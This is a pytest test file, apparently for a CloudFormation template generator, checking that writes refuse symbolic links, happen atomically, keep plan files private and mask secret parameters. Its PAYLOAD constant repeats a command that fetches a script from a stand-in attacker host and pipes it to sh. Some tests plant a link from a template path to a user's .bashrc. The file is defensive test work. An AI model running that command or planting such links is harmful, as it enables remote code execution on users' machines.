"""Every writer refuses symbolic links on its way and writes atomically (issue 21: "Writes follow symlinks").

A pull request can commit a link where cfngen writes (`templates/<name>/service-web.yaml -> ../../../x/.bashrc`);
with an environment value of several lines, the written template would put lines the pull request chose into
the link's target. Each test below commits such a link and runs the real command.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from cfngen import UsageError
from cfngen._files import write_text
from cfngen.cli import main
from cfngen.cli.plan import _masked
from cfngen.deploy._plan import Plan
from cfngen.local import LocalAws
from tests.conftest import ROOT

PAYLOAD = "\n".join(f"curl -s attacker.example/{n} | sh" for n in range(10))
BASHRC = "# the user's own .bashrc\n"


@pytest.fixture()
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A checkout whose blueprint has a service `web` with a ten-line environment value; the working directory."""
    repo = tmp_path / "repo"
    (repo / "blueprints").mkdir(parents=True)
    indented = "\n".join(f"          {line}" for line in PAYLOAD.splitlines())
    (repo / "blueprints" / "shop.yaml").write_text(
        "name: shop\nregion: us-east-1\nservices:\n  - name: web\n    port: 8080\n    environment:\n"
        f"      NOTE: |\n{indented}\n",
        encoding="utf-8",
    )
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".bashrc").write_text(BASHRC, encoding="utf-8")
    monkeypatch.chdir(repo)
    return repo


def test_synth_refuses_a_committed_link_to_a_file_outside(repository: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repository / "templates" / "shop").mkdir(parents=True)
    os.symlink("../../../home/.bashrc", repository / "templates" / "shop" / "service-web.yaml")
    assert main(["synth", "blueprints/shop.yaml"]) == 2
    err = capsys.readouterr().err
    assert "templates/shop/service-web.yaml: is a symbolic link" in err and "Traceback" not in err
    assert (repository.parent / "home" / ".bashrc").read_text(encoding="utf-8") == BASHRC
    assert not (repository / "templates" / "shop" / "root.yaml").exists(), "nothing written from a refused run"


def test_synth_refuses_a_linked_output_folder(repository: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (repository / "templates").mkdir()
    os.symlink("../../home", repository / "templates" / "shop")
    assert main(["synth", "blueprints/shop.yaml"]) == 2
    assert "templates/shop: is a symbolic link" in capsys.readouterr().err
    assert sorted(path.name for path in (repository.parent / "home").iterdir()) == [".bashrc"]


def test_synth_without_links_writes_the_payload_only_inside_a_yaml_string(repository: Path) -> None:
    assert main(["synth", "blueprints/shop.yaml"]) == 0
    assert (repository / "templates" / "shop" / "service-web.yaml").is_file()
    assert not any(path.name.endswith(".tmp") for path in (repository / "templates" / "shop").iterdir())


def test_render_refuses_a_link_before_writing_anything(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outdir = tmp_path / "out"
    (outdir / "service-b").mkdir(parents=True)
    victim = tmp_path / "victim"
    victim.write_text(BASHRC, encoding="utf-8")
    os.symlink(victim, outdir / "service-b" / "buildspec.yml")
    assert (
        main(
            [
                "render",
                str(ROOT / "blueprints" / "demo.yaml"),
                "--stack-values",
                str(ROOT / "tests" / "fixtures" / "render" / "demo.json"),
                "-o",
                str(outdir),
            ]
        )
        == 2
    )
    assert "service-b/buildspec.yml: is a symbolic link" in capsys.readouterr().err
    assert victim.read_text(encoding="utf-8") == BASHRC
    assert not (outdir / "service-a").exists(), "every path is checked before the first file is written"


def test_review_and_schema_refuse_a_link(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    victim = tmp_path / "victim"
    victim.write_text(BASHRC, encoding="utf-8")
    os.symlink(victim, tmp_path / "review.html")
    os.symlink(victim, tmp_path / "schema.json")
    assert (
        main(["review", str(ROOT / "tests" / "blueprints" / "minimal.yaml"), "-o", str(tmp_path / "review.html")]) == 2
    )
    assert main(["schema", "-o", str(tmp_path / "schema.json")]) == 2
    err = capsys.readouterr().err
    assert "review.html: is a symbolic link" in err and "schema.json: is a symbolic link" in err
    assert victim.read_text(encoding="utf-8") == BASHRC


def test_init_refuses_a_dangling_link_where_the_blueprint_goes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "blueprints").mkdir()
    os.symlink(tmp_path / "created-elsewhere", tmp_path / "blueprints" / "shop.yaml")
    assert main(["init", "--name", "shop", "--service", "web", "--no-input", str(tmp_path)]) == 2
    assert "refusing to overwrite" in capsys.readouterr().err
    assert not (tmp_path / "created-elsewhere").exists()


def test_a_write_replaces_the_file_rather_than_writing_into_it(tmp_path: Path) -> None:
    """Atomic: the new text arrives by rename, so another name of the old file (a hard link) keeps the old text."""
    target = tmp_path / "file.yaml"
    target.write_text("old\n", encoding="utf-8")
    os.link(target, tmp_path / "other-name")
    write_text(target, "new\n")
    assert (target.read_text(encoding="utf-8"), (tmp_path / "other-name").read_text(encoding="utf-8")) == (
        "new\n",
        "old\n",
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file.yaml", "other-name"]


def test_a_link_above_the_target_inside_the_root_is_refused_and_dotdot_is_resolved_by_name(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    os.symlink(tmp_path / "real", tmp_path / "link")
    with pytest.raises(UsageError, match="link: is a symbolic link"):
        write_text(tmp_path / "link" / "file", "x", root=tmp_path)
    write_text(tmp_path / "link" / ".." / "file", "x", root=tmp_path)
    assert (tmp_path / "file").read_text(encoding="utf-8") == "x" and not (tmp_path / "real" / "file").exists()


def test_plan_file_is_private(aws: LocalAws, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["bootstrap", "--region", "us-east-1"]) == 0
    plan_file = tmp_path / "plan.json"
    assert (
        main(
            [
                "plan",
                str(ROOT / "tests" / "blueprints" / "minimal.yaml"),
                "--out",
                str(plan_file),
                "--param",
                "WebImage=registry.example/web:1",
            ]
        )
        == 0
    )
    assert stat.S_IMODE(plan_file.stat().st_mode) == 0o600


def test_plan_masks_no_echo_parameters() -> None:
    plan = Plan(
        stack_name="shop",
        region="us-east-1",
        change_set_type="CREATE",
        parameters={"DbPassword": "hunter2", "WebImage": "registry.example/web:1"},
    )
    root = {"Parameters": {"DbPassword": {"Type": "String", "NoEcho": "true"}, "WebImage": {"Type": "String"}}}
    assert _masked(plan, root).parameters == {"DbPassword": "****", "WebImage": "registry.example/web:1"}


def test_a_committed_link_among_the_templates_is_neither_read_nor_removed(repository: Path) -> None:
    """Stale files are read to see whether cfngen wrote them: a link may point at /dev/zero or a folder."""
    (repository / "templates" / "shop").mkdir(parents=True)
    os.symlink(repository.parent / "home", repository / "templates" / "shop" / "old.yaml")
    assert main(["synth", "blueprints/shop.yaml"]) == 0
    assert (repository / "templates" / "shop" / "old.yaml").is_symlink()
